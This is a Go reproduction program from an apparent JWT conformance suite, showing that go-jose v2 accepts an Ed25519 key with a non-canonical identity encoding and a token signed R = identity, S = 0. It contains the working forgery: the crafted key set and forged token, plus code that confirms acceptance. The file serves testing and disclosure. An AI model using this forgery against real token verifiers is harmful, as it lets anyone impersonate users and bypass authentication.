// Standalone reproduction of a go-jose v2 must finding in jwt-conformance: its JWK parser takes
// an Ed25519 public key whose 32 octets are no canonical encoding (the identity point, x = 0,
// with the sign bit set), and Go's crypto/ed25519, which it verifies with, decodes it leniently
// to a point of small order, for which the signature R = identity, S = 0 verifies on any message:
// whoever may publish a key in the set (or choose its bytes) signs every token.
//
// RFC 8032 §5.1.3 fails to decode such a key (x = 0 with the sign bit set), and §5.1.7 step 1
// makes a signature invalid when the public key does not decode (RFC 8037 §3.1 verifies Ed25519
// JWS by RFC 8032). The token below carries R = identity, S = 0 under that key (kid "ed25519").
//
// Reproduces: eddsa/key-non-canonical-identity-sign-bit (forgery)
//
// The library is configured exactly as the jwt-conformance adapter configures it
// (adapters/go-jose/main.go): the JWK Set unmarshalled into a jose.JSONWebKeySet with go-jose's
// JSON package, jwt.ParseSigned, Claims(keySet, &claims, &raw) (the library picks the key by
// kid), then claims.ValidateWithLeeway(jwt.Expected{Issuer, Audience, Time: now}, 0). Only the
// library and Go's standard library are used.
//
// Run (after scripts/setup/go.sh, which builds it): adapters/go-jose/bin/repro-eddsa-key
// or: cd adapters/go-jose/repro-eddsa-key && GO111MODULE=off GOPATH=/usr/share/gocode go run .
// Prints "REPRODUCED eddsa/key-non-canonical-identity-sign-bit: …" and exits 0 when the library accepts.
package main

import (
	"fmt"
	"os"
	"time"

	jose "gopkg.in/square/go-jose.v2"
	josejson "gopkg.in/square/go-jose.v2/json"
	"gopkg.in/square/go-jose.v2/jwt"
)

const (
	vector   = "eddsa/key-non-canonical-identity-sign-bit"
	issuer   = "https://issuer.example"
	audience = "https://api.example"
	now      = 1700000000
	jwks     = `{"keys":[{"alg":"EdDSA","crv":"Ed25519","kid":"ed25519","kty":"OKP","use":"sig","x":"AQAAAAAAAAAAAAA` +
		`AAAAAAAAAAAAAAAAAAAAAAAAAAIA"}]}`
	token = `eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlI` +
		`iwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc` +
		`3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.AQAAAAAAAA` +
		`AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA`
)

func notReproduced(format string, args ...interface{}) {
	fmt.Printf("NOT REPRODUCED %s: %s\n", vector, fmt.Sprintf(format, args...))
	os.Exit(1)
}

func main() {
	var set jose.JSONWebKeySet
	if err := josejson.Unmarshal([]byte(jwks), &set); err != nil {
		notReproduced("go-jose refused the key set: %v", err)
	}
	parsed, err := jwt.ParseSigned(token)
	if err != nil {
		notReproduced("go-jose rejected the token: %v", err)
	}
	var claims jwt.Claims
	raw := map[string]interface{}{}
	if err := parsed.Claims(set, &claims, &raw); err != nil {
		notReproduced("go-jose rejected the token: %v", err)
	}
	expected := jwt.Expected{Issuer: issuer, Audience: jwt.Audience{audience}, Time: time.Unix(now, 0)}
	if err := claims.ValidateWithLeeway(expected, 0); err != nil {
		notReproduced("go-jose rejected the token: %v", err)
	}
	fmt.Printf("REPRODUCED %s: go-jose accepted a token with alg %s (kid %q) signed R = identity, S = 0 under a non-canonical identity key\n", vector, parsed.Headers[0].Algorithm, parsed.Headers[0].KeyID)
}
